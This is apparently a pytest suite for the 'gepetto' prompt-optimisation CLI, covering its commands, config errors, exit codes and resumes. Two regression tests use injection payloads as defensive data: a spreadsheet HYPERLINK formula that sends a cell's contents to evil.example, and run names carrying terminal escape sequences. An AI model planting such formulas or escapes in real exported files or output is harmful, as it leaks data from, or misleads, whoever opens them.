"""The gepetto command on a small simulated run: every command, config errors, exit codes."""

import dataclasses
import json

import pytest
from typer.testing import CliRunner

import gepetto
from gepetto.cli import app
from gepetto.testing import sim

SIM = ["--task", "sim", "--task-lm", "sim:task", "--reflection-lm", "sim:reflection"]


@pytest.fixture
def cli(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    runner = CliRunner()

    def invoke(*args):
        return runner.invoke(app, [str(a) for a in args], catch_exceptions=False)

    return invoke


@pytest.fixture
def done_run(cli):
    res = cli("optimize", *SIM, "--budget", 80, "--run", "r1", "--storage", "runs.sqlite", "-q")
    assert res.exit_code == 0, res.output
    return res


def test_optimize_prints_the_result_and_stores_the_run(done_run):
    out = done_run.output
    assert "validation: seed 0.000 -> best" in out
    assert "Apply rule-" in out  # the evolved instruction is shown
    assert "gepetto show r1" in out


def test_runs_show_export_report(cli, done_run, tmp_path):
    runs = cli("runs", "--storage", "runs.sqlite")
    assert runs.exit_code == 0 and "r1" in runs.output and "finished" in runs.output
    show = cli("show", "r1", "--storage", "runs.sqlite")
    assert show.exit_code == 0
    assert "Pareto front" in show.output and "ledger" in show.output and "reflection" in show.output
    exported = cli("export", "r1", "--storage", "runs.sqlite")
    assert exported.exit_code == 0
    best = json.loads(exported.output)
    assert set(best) == {"instruction"} and "rule-" in best["instruction"]
    rep = cli("report", "r1", "-o", tmp_path / "r1.html", "--storage", "runs.sqlite")
    assert rep.exit_code == 0, rep.output
    html = (tmp_path / "r1.html").read_text()
    assert html.lstrip().lower().startswith("<!doctype html") and "rule-" in html


def test_resume_of_a_finished_run_replays_without_paying(cli, done_run):
    before = cli("export", "r1", "--storage", "runs.sqlite").output
    again = cli("optimize", "--run", "r1", "--storage", "runs.sqlite", "-q")
    assert again.exit_code == 0, again.output

    def line(out):
        return next(x for x in out.splitlines() if x.startswith("validation:")).split("; wall time")[0]

    assert line(again.output) == line(done_run.output)
    assert cli("export", "r1", "--storage", "runs.sqlite").output == before


def test_resume_with_other_settings_is_a_usage_error(cli, done_run):
    res = cli("optimize", "--run", "r1", "--storage", "runs.sqlite", "--seed", 7, "-q")
    assert res.exit_code == 2
    assert "exists with other settings for ['seed']" in res.output


def test_more_budget_on_resume_continues_the_run(cli, done_run):
    res = cli("optimize", "--run", "r1", "--storage", "runs.sqlite", "--budget", 200, "-q")
    assert res.exit_code == 0, res.output
    assert "/200 rollouts" in res.output


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["--budget", "0"], "budget: Input should be greater than or equal to 1"),
        (["--task", "nope"], "unknown task 'nope'; accepted:"),
        (["--task-lm", "gpt4"], "task_lm:"),
        (["--target-score", "2"], "target_score: Input should be less than or equal to 1"),
    ],
)
def test_config_errors_name_the_field_and_exit_2(cli, args, message):
    res = cli("optimize", *SIM, *args, "--storage", "runs.sqlite", "-q")
    assert res.exit_code == 2
    assert message in res.output


def test_config_files_yaml_and_toml(cli, tmp_path):
    (tmp_path / "run.yaml").write_text("task: sim\ntask_lm: sim:task\nreflection_lm: sim:reflection\nbudget: 40\n")
    res = cli("optimize", "-c", tmp_path / "run.yaml", "--storage", "runs.sqlite", "--run", "y", "-q")
    assert res.exit_code == 0, res.output
    (tmp_path / "run.toml").write_text('task = "sim"\ntask_lm = "sim:task"\nreflection_lm = "sim:reflection"\n'
                                       "budget = 40\nbudgett = 3\n")
    res = cli("optimize", "-c", tmp_path / "run.toml", "--storage", "runs.sqlite", "-q")
    assert res.exit_code == 2
    assert "budgett: unknown option (did you mean 'budget'?); accepted:" in res.output
    res = cli("optimize", "-c", tmp_path / "missing.yaml", "--storage", "runs.sqlite", "-q")
    assert res.exit_code == 2 and "does not exist" in res.output


def test_unknown_run_and_missing_store(cli, done_run):
    res = cli("show", "nope", "--storage", "runs.sqlite")
    assert res.exit_code == 2 and "no run named 'nope'" in res.output and "r1" in res.output
    res = cli("runs", "--storage", "elsewhere.sqlite")  # no store yet: an empty list, not an error
    assert res.exit_code == 0 and "no runs in elsewhere.sqlite yet" in res.output and "r1" not in res.output
    res = cli("show", "r1", "--storage", "elsewhere.sqlite")
    assert res.exit_code == 2 and "no run store at elsewhere.sqlite" in res.output


def test_usage_error_exit_code(cli):
    assert cli("optimize", "--budget", "many").exit_code == 2
    assert cli("frobnicate").exit_code == 2


def test_task_options_from_the_command_line(cli):
    res = cli("optimize", *SIM, "--budget", 40, "--task-option", "kinds=2", "--run", "k2", "--storage", "s.sqlite",
              "-q")
    assert res.exit_code == 0, res.output
    from gepetto.store.sqlite import RunStore

    assert RunStore("s.sqlite").get_run("k2").config["task_options"] == {"kinds": 2}
    res = cli("optimize", *SIM, "--task-option", "nokeyvalue", "--storage", "s.sqlite", "-q")
    assert res.exit_code == 2 and "KEY=VALUE" in res.output


def _dying_task_lm(monkeypatch, answers):
    """Make `sim:task` answer `answers` calls, then fail like a dead endpoint (LMUnavailable)."""
    from gepetto.lm import names
    from gepetto.lm.base import LMUnavailable
    from gepetto.testing import sim

    class Dying(sim.SimTaskLM):
        async def complete(self, messages, **params):
            if self.calls >= answers:
                self.calls += 1
                raise LMUnavailable("sim-task: gave up after 7 attempts; last error: HTTP 503")
            return await super().complete(messages, **params)

    real = names.BACKENDS["sim"]
    dying = dataclasses.replace(real, build=lambda spec: Dying() if spec.model == "task" else real.builder()(spec))
    monkeypatch.setitem(names.BACKENDS, "sim", dying)  # the backend table: `sim:task` now builds Dying


def test_a_run_stopped_by_a_failing_lm_exits_non_zero_with_a_clear_message(cli, monkeypatch, tmp_path):
    # issue 11: the CLI printed the best so far and exited 0, as if the run had finished
    _dying_task_lm(monkeypatch, answers=20)
    (tmp_path / "run.yaml").write_text("max_lm_failures: 2\nlm_retry_pause: 0\n")
    res = cli("optimize", *SIM, "-c", "run.yaml", "--budget", 80, "--run", "r", "--storage", "runs.sqlite", "-q")
    assert res.exit_code == 3, res.output
    assert "the run stopped early: LM unavailable: 2 LM calls in a row failed" in res.output
    assert "to resume: gepetto optimize --run r" in res.output
    assert "validation: seed" in res.output  # the best so far is still shown
    runs = cli("runs", "--storage", "runs.sqlite")
    assert "interrupted" in runs.output  # resumable
    show = cli("show", "r", "--storage", "runs.sqlite")
    assert "stopped: LM unavailable: 2 LM calls in a row failed" in show.output


def test_normal_and_user_stops_keep_exit_code_0(cli, tmp_path):
    stop = tmp_path / "STOP"
    stop.write_text("")
    for extra in (["--budget", 80], ["--budget", 400, "--target-score", 0.5], ["--budget", 400, "--stop-file", stop]):
        res = cli("optimize", *SIM, *extra, "--storage", "runs.sqlite", "-q")
        assert res.exit_code == 0, res.output


def test_a_broken_metric_exits_non_zero_with_a_clear_message(cli, tmp_path):
    (tmp_path / "broken.py").write_text(
        "from gepetto import Task\nfrom gepetto.testing import sim\n\n"
        "def make_task():\n"
        "    t = sim.task()\n"
        "    return Task('broken', t.program, lambda ex, out, trace: None, t.seed_candidate, t.trainset, t.valset)\n")
    res = cli("optimize", "--task", "broken.py:make_task", "--task-lm", "sim:task", "--reflection-lm",
              "sim:reflection", "--budget", 80, "--run", "b", "--storage", "runs.sqlite", "-q")
    assert res.exit_code != 0 and "MetricError" in res.output and "metric" in res.output
    assert "failed" in cli("runs", "--storage", "runs.sqlite").output


def test_warnings_are_told_in_the_command_lines_words(monkeypatch, capsys):
    import warnings

    import gepetto.cli as cli

    def app():
        warnings.warn("run 'r' did not retrace its stored path on resume: [1 of 2]", RuntimeWarning, stacklevel=1)

    monkeypatch.setattr(warnings, "showwarning", warnings.showwarning)  # put back after the test
    monkeypatch.setattr(cli, "app", app)
    cli.main()
    err = capsys.readouterr().err
    assert err.startswith("warning: run 'r' did not retrace its stored path on resume: [1 of 2]")  # as written
    assert "RuntimeWarning" not in err and "test_cli.py" not in err  # no Python location


def test_version_and_help_with_the_common_options_first(cli):
    import re

    import gepetto

    res = cli("--version")
    assert res.exit_code == 0 and res.output.strip() == f"gepetto {gepetto.__version__}"
    shown = CliRunner().invoke(app, ["optimize", "--help"], env={"COLUMNS": "120"}).output
    assert "<bool>" not in shown  # plain flags
    panels = re.findall(r"╭─ ([^─]+) ─", shown)
    options = {}  # option -> (panel number, position in the help)
    for k, part in enumerate(re.split(r"╭─ [^─]+ ─", shown)[1:]):
        for m in re.finditer(r"│ (--[\w-]+)", part):
            options.setdefault(m.group(1), (k, len(options)))
    common = ["--config", "--task", "--task-lm", "--reflection-lm", "--budget", "--preset", "--run", "--storage",
              "--seed", "--dry-run"]
    assert panels[0] == "Options" and [options[o] for o in common] == sorted(options[o] for o in common)
    assert {options[o][0] for o in common} == {0}  # the common options first, together
    assert options["--max-concurrency"][0] > 0 and len(panels) >= 5  # the rest grouped after


def test_report_writes_run_html_by_default_and_opens_it(cli, done_run, tmp_path, monkeypatch):
    opened = []
    monkeypatch.setattr("webbrowser.open", lambda url: opened.append(url) or True)
    res = cli("report", "r1", "--storage", "runs.sqlite", "--open")
    assert res.exit_code == 0, res.output
    assert (tmp_path / "r1.html").is_file() and opened == [(tmp_path / "r1.html").resolve().as_uri()]
    assert "Reflection transcripts" in (tmp_path / "r1.html").read_text()


def test_evaluate_scores_the_test_split_and_keeps_it_with_the_run(cli, done_run, tmp_path):
    res = cli("evaluate", "r1", "--storage", "runs.sqlite")
    assert res.exit_code == 0, res.output
    assert "#0" in res.output and "seed" in res.output and "best" in res.output and "12" in res.output
    show = cli("show", "r1", "--storage", "runs.sqlite").output
    assert "test (12 examples): seed 0.000 -> best 0." in show
    runs = cli("runs", "--storage", "runs.sqlite").output
    assert "test" in runs
    cli("report", "r1", "--storage", "runs.sqlite")
    assert "test score" in (tmp_path / "r1.html").read_text()
    bad = cli("evaluate", "r1", "--split", "holdout", "--storage", "runs.sqlite")
    assert bad.exit_code == 2 and "split 'holdout': one of test, val, train" in bad.output
    bad = cli("evaluate", "r1", "--candidate", "99", "--storage", "runs.sqlite")
    assert bad.exit_code == 2 and "the run has candidates 0-" in bad.output


def test_export_rollouts_as_csv_and_json_lines(cli, done_run):
    import csv

    from gepetto.store.sqlite import RunStore

    assert cli("evaluate", "r1", "--storage", "runs.sqlite").exit_code == 0
    res = cli("export", "r1", "--rollouts", "-o", "rollouts.csv", "--storage", "runs.sqlite")
    assert res.exit_code == 0, res.output
    with open("rollouts.csv", newline="") as f:
        rows = list(csv.DictReader(f))
    paid = RunStore("runs.sqlite").count_rollouts("r1")
    assert len([r for r in rows if r["split"] in ("train", "val")]) == paid
    assert len([r for r in rows if r["split"] == "test"]) == 24  # the seed and the best on 12 test examples
    assert set(rows[0]) == {"run", "split", "candidate", "candidate_id", "example_id", "score", "feedback", "output",
                            "error"}
    best_test = [r for r in rows if r["split"] == "test" and r["candidate"] != "0"]
    assert all(float(r["score"]) in (0.0, 1.0) for r in rows) and any(r["output"].startswith("answer-")
                                                                       for r in best_test)
    lines = cli("export", "r1", "--rollouts", "--storage", "runs.sqlite").output.splitlines()
    assert [json.loads(line)["example_id"] for line in lines] == [r["example_id"] for r in rows]
    assert cli("export", "r1", "--rollouts", "--format", "xml", "--storage", "runs.sqlite").exit_code == 2


def test_names_never_reach_the_terminal_raw_and_report_never_replaces_a_fifo_or_a_symlink(cli, tmp_path):
    """Repro a11 (round 2): a run name holding a terminal escape was printed raw by `gepetto runs` (on a shared store,
    other people's names reach your terminal); `report -o` replaced a FIFO or a symlink with a new regular file."""
    import os

    sim_args = ["--task", "sim", "--task-lm", "sim:task", "--reflection-lm", "sim:reflection", "--budget", "30",
                "--storage", "c.sqlite", "-q"]
    for name in ("\x1b[31mred\x1b[0m", "two\nlines", "good"):
        assert cli("optimize", *sim_args, "--run", name).exit_code == 0
    listing = cli("runs", "--storage", "c.sqlite").output
    assert "\x1b" not in listing and "\\x1b[31mred\\x1b[0m" in listing and "two\\nlines" in listing
    os.mkfifo("pipe.html")
    res = cli("report", "good", "--storage", "c.sqlite", "-o", "pipe.html")
    assert res.exit_code == 2 and "pipe.html is a FIFO: give the path of a file" in res.output
    assert (tmp_path / "pipe.html").is_fifo()
    (tmp_path / "sub").mkdir()
    (tmp_path / "sub" / "real.html").write_text("old")
    (tmp_path / "linked.html").symlink_to("sub/real.html")
    assert cli("report", "good", "--storage", "c.sqlite", "-o", "linked.html").exit_code == 0
    assert (tmp_path / "linked.html").is_symlink() and "<html" in (tmp_path / "sub" / "real.html").read_text()


def test_exported_csv_cells_are_never_spreadsheet_formulas(cli, tmp_path):
    """Repro a20 (round 2): LM outputs and feedback that start with =, +, - or @ were written as they are, and a
    spreadsheet runs them as formulas; such a cell starts with a ' now (the text after it unchanged)."""
    import csv

    task = sim.task(n_train=4, n_val=4, kinds=2)
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'

    def metric(e, o, tr):
        s = task.metric(e, o, tr)
        return gepetto.Score(s.value, f"{formula} {s.feedback}")

    def program(c, e, ctx):
        return "@SUM(1+2)" if e.id.endswith("-0") else ctx.lm("instruction", e.inputs["q"])

    gepetto.optimize(task.seed_candidate, task.trainset, metric, valset=task.valset, program=program,
                     task_lm="sim:task", reflection_lm="sim:reflection", budget=20, storage="csv.sqlite", run="r",
                     progress=False)
    assert cli("export", "r", "--rollouts", "-o", "r.csv", "--storage", "csv.sqlite").exit_code == 0
    with open("r.csv", newline="") as f:
        rows = list(csv.DictReader(f))
    cells = [c for row in rows for c in row.values() if c]
    assert not [c for c in cells if c[0] in "=+-@"]
    assert all(r["feedback"].startswith(f"'{formula} ") for r in rows)
    assert any(r["output"] == "'@SUM(1+2)" for r in rows)


def test_compare_shows_a_table_the_options_that_differ_and_a_chart(cli, done_run, tmp_path):
    other = cli("optimize", *SIM, "--reflection-lm", "sim:reflection?max_rules=2", "--budget", 60, "--run", "r2",
                "--storage", "runs.sqlite", "-q")
    assert other.exit_code == 0, other.output
    res = cli("compare", "r1", "r2", "-o", "compare.html", "--storage", "runs.sqlite")
    assert res.exit_code == 0, res.output
    out = res.output
    assert "options that differ" in out and "reflection_lm" in out and "budget" in out
    assert "best validation score over rollouts" in out and "● r1" in out and "■ r2" in out
    page = (tmp_path / "compare.html").read_text()
    assert page.count('class="run-line"') == 2 and "Options that differ" in page and "<script" not in page
    assert cli("compare", "r1", "--storage", "runs.sqlite").exit_code == 2
    missing = cli("compare", "r1", "nope", "--storage", "runs.sqlite")
    assert missing.exit_code == 2 and "no run named 'nope'" in missing.output


def test_delete_asks_first_and_takes_yes(cli, done_run):
    from gepetto.store.sqlite import RunStore

    runner = CliRunner()
    kept = runner.invoke(app, ["delete", "r1", "--storage", "runs.sqlite"], input="n\n")
    assert kept.exit_code == 1 and "Delete run 'r1' (finished" in kept.output and "nothing deleted" in kept.output
    assert RunStore("runs.sqlite").get_run("r1") is not None
    gone = runner.invoke(app, ["delete", "r1", "--storage", "runs.sqlite"], input="y\n")
    assert gone.exit_code == 0 and "deleted run 'r1'" in gone.output
    store = RunStore("runs.sqlite")
    assert store.get_run("r1") is None and not store.events("r1") and not store.lm_exchanges("r1")
    assert cli("delete", "r1", "--yes", "--storage", "runs.sqlite").exit_code == 2  # no such run any more
    assert cli("optimize", *SIM, "--budget", 30, "--run", "r3", "--storage", "runs.sqlite", "-q").exit_code == 0
    assert cli("delete", "r3", "--yes", "--storage", "runs.sqlite").exit_code == 0


def test_preset_sizes_a_new_run_and_an_explicit_budget_wins(cli, tmp_path):
    from gepetto.presets import preset_budget
    from gepetto.store.sqlite import RunStore

    res = cli("optimize", *SIM, "--preset", "light", "--run", "p", "--storage", "s.sqlite", "-q")
    assert res.exit_code == 0, res.output
    light = preset_budget("light", n_val=12, n_components=1)
    assert RunStore("s.sqlite").get_run("p").config["budget"] == light == 12 + 8 * 6 + 3 * 12
    assert cli("optimize", *SIM, "--preset", "light", "--budget", 30, "--run", "q", "--storage", "s.sqlite",
               "-q").exit_code == 0
    assert RunStore("s.sqlite").get_run("q").config["budget"] == 30
    (tmp_path / "run.yaml").write_text("task: sim\ntask_lm: sim:task\nreflection_lm: sim:reflection\npreset: medium\n")
    assert cli("optimize", "-c", "run.yaml", "--run", "m", "--storage", "s.sqlite", "-q").exit_code == 0
    assert RunStore("s.sqlite").get_run("m").config["budget"] == preset_budget("medium", n_val=12, n_components=1)
    again = cli("optimize", "--run", "p", "--preset", "heavy", "--storage", "s.sqlite", "-q")
    assert again.exit_code == 2 and "keeps the budget it was given" in again.output
    wrong = cli("optimize", *SIM, "--preset", "huge", "--storage", "s.sqlite", "-q")
    assert wrong.exit_code == 2 and "unknown preset 'huge'; accepted: light, medium, heavy" in wrong.output


class _SlowOrderLM:
    """Answers every demo message with one order after a pause; as reflection, a new instruction."""

    def __init__(self, model: str) -> None:
        self.name = f"slow:{model}"

    async def complete(self, messages, **params):
        import asyncio

        from gepetto.lm.base import Completion, Usage

        await asyncio.sleep(0.2)
        text = ('{"item": "lamp", "quantity": 2}' if self.name == "slow:task" else
                "<new_instruction>Extract the order as JSON; 'a dozen' is 12, 'a pair' is 2.</new_instruction>")
        return Completion(text, Usage(10, 10))


def test_the_demo_runs_sixteen_rollouts_at_once_and_its_default_task_lm_decodes_as_many(tmp_path, monkeypatch):
    import inspect

    from gepetto.lm.names import BACKENDS, Backend, make_lm, register_backend

    class Counting(_SlowOrderLM):
        busy = most = 0

        async def complete(self, messages, **params):
            Counting.busy += 1
            Counting.most = max(Counting.most, Counting.busy)
            try:
                return await super().complete(messages, **params)
            finally:
                Counting.busy -= 1

    monkeypatch.chdir(tmp_path)
    register_backend("slow", Backend(lambda n: Counting(n.model), "slow:MODEL", {}))
    try:
        res = CliRunner().invoke(app, ["demo", "--task-lm", "slow:task", "--reflection-lm", "slow:reflection",
                                       "--budget", "30", "--storage", "d.sqlite"], env={"COLUMNS": "400"})
    finally:
        BACKENDS.pop("slow")
    assert res.exit_code == 0, res.output
    # the held-out test: the seed's and the best's 40 rollouts, 16 at once
    assert "test: seed" in res.output and Counting.most == 16
    default = inspect.signature(gepetto.cli.demo).parameters["task_lm"].default.default
    assert make_lm(default).parallel == 16  # the embedded task LM decodes as many together


def test_a_demo_cut_by_its_time_limit_says_so_and_its_resume_finishes_it(tmp_path, monkeypatch):
    """A demo that runs out of time says it did (half a run), and the command it prints resumes it to the end of its
    budget (given room here: the time limit counts again from the resume, and this test must not depend on how
    fast a busy machine runs the rest)."""
    from gepetto.lm.names import BACKENDS, Backend, register_backend

    monkeypatch.chdir(tmp_path)
    register_backend("slow", Backend(lambda n: _SlowOrderLM(n.model), "slow:MODEL", {}))
    try:
        lms = ["--task-lm", "slow:task", "--reflection-lm", "slow:reflection"]
        res = CliRunner().invoke(app, ["demo", *lms, "--budget", "60", "--time-limit", "1", "--storage", "d.sqlite",
                                       "--quiet"], env={"COLUMNS": "400"})
        assert res.exit_code == 0, res.output
        assert "the demo stopped at its time limit (1 s) after" in res.output
        resume = res.output.split("gepetto optimize ", 1)[1].split()[:4]
        assert resume[0] == "--run" and resume[2:] == ["--storage", "d.sqlite"]
        cut = gepetto.cli._snapshot("d.sqlite", resume[1])["result"]["rollouts_used"]
        done = CliRunner().invoke(app, ["optimize", *resume, "--time-limit", "600", "--quiet"], env={"COLUMNS": "400"})
        assert done.exit_code == 0, done.output
        finished = gepetto.cli._snapshot("d.sqlite", resume[1])["result"]
        assert "time limit" not in done.output and "budget" in finished["stop_reason"]
        assert cut < finished["rollouts_used"] <= 60
    finally:
        BACKENDS.pop("slow")
